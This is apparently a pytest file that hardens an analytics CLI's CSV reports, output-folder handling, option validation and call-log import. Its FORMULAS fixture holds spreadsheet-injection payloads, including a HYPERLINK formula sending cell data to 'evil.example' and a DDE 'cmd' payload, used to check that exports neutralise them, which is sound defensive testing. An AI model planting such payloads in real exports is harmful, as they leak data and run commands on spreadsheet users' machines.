"""Issue 11: what `kb report` writes and `kb calls import` reads, against hostile or broken input:
exported CSV cells cannot start a formula, `--out` writes only into a folder kb report made,
odd option values are usage errors, and call logs with absurd dates or an unbalanced quote are
reported line by line without losing the good rows."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from kb_tools.analytics.cli import calls, report
from kb_tools.analytics.store import EventStore
from kb_tools.analytics.store import calls as calls_table
from tests.event_rows import make_event

NOW = int(time.time() * 1000)
SESSION = "Hardening_Session_01"


# -- 6. CSV exports --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR"]


def test_exported_cells_never_start_a_formula(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "docs" / "evil").mkdir(parents=True)
    (project / "mkdocs.yml").write_text("site_name: T\nplugins: [kb]\n", encoding="utf-8")
    (project / "docs" / "evil" / "page.md").write_text(
        f"---\ntitle: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'\ncontact_topic: returns\n---\nx\n", encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'a.db'}"
    store = EventStore(db)
    rows = [make_event("page_view", SESSION, NOW - 3_600_000, {"url": "/evil/page/"}, url="/evil/page/")]
    for i, f in enumerate(FORMULAS):
        for n in range(3):
            rows.append(make_event("search", f"S{i}{n}_session_abcdef", NOW - 3_600_000 + n,
                                                 {"query": f + " refund", "results": 0}))
    store.add_events(rows)
    store.close()
    r = CliRunner().invoke(report, ["--db", db, "--out", str(tmp_path / "rep"), "--project", str(project)],
                           catch_exceptions=False)
    assert r.exit_code == 0, r.output
    cells = []
    for name in ("items.csv", "gaps.csv"):
        with (tmp_path / "rep" / name).open(newline="", encoding="utf-8") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
    assert starts == []
    assert "'" + FORMULAS[0] in cells  # shown as the text it is


# -- 4. kb report --out --------------------------------------------------------------------------

@pytest.fixture
def demo_db(tmp_path: Path) -> str:
    from kb_tools.analytics.demo import generate

    db = f"sqlite:///{tmp_path / 'demo.db'}"
    store = EventStore(db)
    generate(store, weeks=5, seed=1, scale=0.05, replace=True, progress=False)
    store.close()
    return db


def test_report_out_never_deletes_what_it_did_not_write(tmp_path: Path, demo_db: str, monkeypatch) -> None:  # noqa: ANN001
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text("# Articles a writer wrote\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    for out in ("docs", ".", str(tmp_path)):
        r = runner.invoke(report, ["--db", demo_db, "--out", out, "--no-gaps"])
        assert r.exit_code == 1, r.output
        assert "Traceback" not in r.output and "--out" in r.output
    assert (docs / "index.md").read_text(encoding="utf-8") == "# Articles a writer wrote\n"
    assert {p.name for p in tmp_path.iterdir()} - {"demo.db", "demo.db-wal", "demo.db-shm"} == {"docs"}
    # a new folder, and then the same folder again (it holds the report's marker)
    for _ in range(2):
        r = runner.invoke(report, ["--db", demo_db, "--out", "report", "--no-gaps"])
        assert r.exit_code == 0, r.output
        assert (tmp_path / "report" / "index.html").is_file()
    # an empty folder made by hand is fine too
    (tmp_path / "empty").mkdir()
    assert runner.invoke(report, ["--db", demo_db, "--out", "empty", "--no-gaps"]).exit_code == 0


@pytest.mark.parametrize("value", ["nan", "inf", "-1"])
def test_report_window_hours_must_be_a_number_of_hours(tmp_path: Path, demo_db: str, value: str) -> None:
    r = CliRunner().invoke(report, ["--db", demo_db, "--out", str(tmp_path / "r"), "--window-hours", value])
    assert r.exit_code == 2 and "--window-hours" in r.output and "Traceback" not in r.output
    assert not (tmp_path / "r").exists()


# -- 8/10. call logs --------------------------------------------------------------------------

def test_call_log_dates_outside_a_sane_range_are_rejected_with_their_line(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'a.db'}"
    f = tmp_path / "calls.csv"
    f.write_text("timestamp,topic,channel\n2026-03-01T10:00:00,returns,phone\n9999-12-31,returns,phone\n"
                 "1970-01-01,returns,phone\n", encoding="utf-8")
    r = CliRunner().invoke(calls, ["import", str(f), "--db", db])
    assert r.exit_code == 1
    assert f"{f}:3: error: timestamp 9999-12-31 is" in r.output
    assert f"{f}:4: error: timestamp 1970-01-01 is" in r.output
    r = CliRunner().invoke(report, ["--db", db, "--out", str(tmp_path / "r"), "--until", "9999-12-31", "--no-gaps"])
    assert r.exit_code == 2 and "--until" in r.output


def test_skip_bad_with_an_unbalanced_quote_imports_every_good_row(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'a.db'}"
    good = [f"2026-03-{1 + i % 28:02d}T10:{i % 60:02d}:00,returns,phone,,NODI-{i}" for i in range(52)]
    lines = ["timestamp,topic,channel,session,order", *good[:10],
             '2026-03-05T10:00:00,returns,phone,,"NODI-unbalanced', *good[10:]]
    f = tmp_path / "calls.csv"
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    r = CliRunner().invoke(calls, ["import", str(f), "--db", db, "--skip-bad"])
    assert r.exit_code == 0, r.output
    assert "52 call(s) imported, 1 bad row(s) skipped" in r.output
    assert f"{f}:12: error:" in r.output and "quote" in r.output
    store = EventStore(db)
    assert store.count(calls_table) == 52
    store.close()
